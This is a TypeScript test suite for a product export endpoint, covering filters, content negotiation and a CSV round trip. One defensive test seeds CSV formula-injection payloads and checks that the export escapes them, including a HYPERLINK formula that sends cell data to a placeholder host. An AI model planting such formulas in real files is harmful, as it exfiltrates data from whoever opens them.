import { randomUUID } from 'node:crypto'
import type { Product } from '@/lib/domains/products/schema'
import { api } from '../../support/api'
import { createApiKey, createProduct, signIn } from '../../support/factories'

const read = (query: string, accept?: string) =>
  api('GET', `/api/products/export?${query}`, { headers: accept === undefined ? {} : { Accept: accept } })

const lines = (text: string): Product[] =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line))

describe('GET /api/products/export', () => {
  it('returns every product that matches the filters, by id', async () => {
    const category = randomUUID()
    const made = []
    for (let index = 0; index < 25; index += 1) made.push(await createProduct({ category, stock: index % 2 }))
    const response = await read(`category=${category}&inStock=true`)
    expect(response.status).toBe(200)
    const wanted = made.filter(({ stock }) => stock > 0)
    expect(lines(response.text).map(({ id }) => id)).toEqual(wanted.map(({ id }) => id))
    expect(lines(response.text)[0]).toEqual((await api('GET', `/api/products/${wanted[0]?.id}`)).json)
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="products.ndjson"')
  })

  it.each([
    ['', 'application/x-ndjson'],
    ['*/*', 'application/x-ndjson'],
    ['text/csv', 'text/csv'],
    ['text/*', 'text/csv'],
    ['text/csv;q=0.1, application/x-ndjson;q=0.9', 'application/x-ndjson'],
    ['text/csv, */*;q=0.1', 'text/csv'],
    ['application/xml', 'application/x-ndjson'],
    ['text/csv;q=0', 'application/x-ndjson'],
    ['nonsense', 'application/x-ndjson'],
  ])('for Accept: %s returns %s', async (accept, type) => {
    const response = await read(`category=${randomUUID()}`, accept)
    expect([response.status, response.headers.get('content-type')]).toEqual([200, `${type}; charset=utf-8`])
    expect(response.headers.get('vary')).toContain('Accept')
  })

  it('returns an empty body or only a header row if no product matches', async () => {
    const query = `category=${randomUUID()}`
    expect((await read(query)).text).toBe('')
    expect((await read(query, 'text/csv')).text).toBe(
      'id,sku,name,description,category,priceCents,currency,stock,attributes,createdAt,updatedAt\n',
    )
  })

  it('returns the headers and validation errors of GET for HEAD', async () => {
    const head = await api('HEAD', '/api/products/export?inStock=true', { headers: { Accept: 'text/csv' } })
    expect([head.status, head.text, head.headers.get('content-type')]).toEqual([200, '', 'text/csv; charset=utf-8'])
    expect((await api('HEAD', '/api/products/export?inStock=x')).status).toBe(400)
  })

  it.each(['page=1', 'cursor=', 'limit=5', 'sort=name', 'nope=1'])(
    'returns 400 for the list parameter ?%s',
    async (query) => {
      const response = await read(query)
      expect([response.status, response.json.error.code]).toEqual([400, 'VALIDATION_ERROR'])
    },
  )

  it('ignores credentials', async () => {
    const { user, token } = await signIn()
    const { key } = await createApiKey(user, ['users:read'])
    const url = `/api/products/export?category=${randomUUID()}`
    for (const as of [undefined, token, key]) expect((await api('GET', url, { token: as })).status).toBe(200)
  })
})

describe('the CSV of an export', () => {
  it('escapes formulas, and can be imported unchanged', async () => {
    const { token } = await signIn({ role: 'admin' })
    const category = `=${randomUUID()}`
    const formulas = [
      ...['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("http://x.test?"&A1)'],
      ...["'=1", "''+x", "'plain", '=a,"b"\r\n=c'],
    ]
    for (const name of formulas) {
      await createProduct({ sku: `=${randomUUID()}`, name, description: `\t${name}`, category })
    }
    const url = `/api/products/export?category=${encodeURIComponent(category)}`
    const csv = await api('GET', url, { headers: { Accept: 'text/csv' } })
    expect(csv.text).not.toMatch(/(^|,"?)[=+\-@\t\r]/)
    const before = (await api('GET', url)).text
    expect(lines(before).map(({ name }) => name)).toEqual(formulas)
    const call = { token, body: csv.text, headers: { 'Content-Type': 'text/csv' } }
    const { json } = await api('POST', '/api/products/import', call)
    expect(json).toEqual({ created: 0, updated: formulas.length, failed: 0, errors: [] })
    expect((await api('GET', url)).text).toBe(before)
  })
})
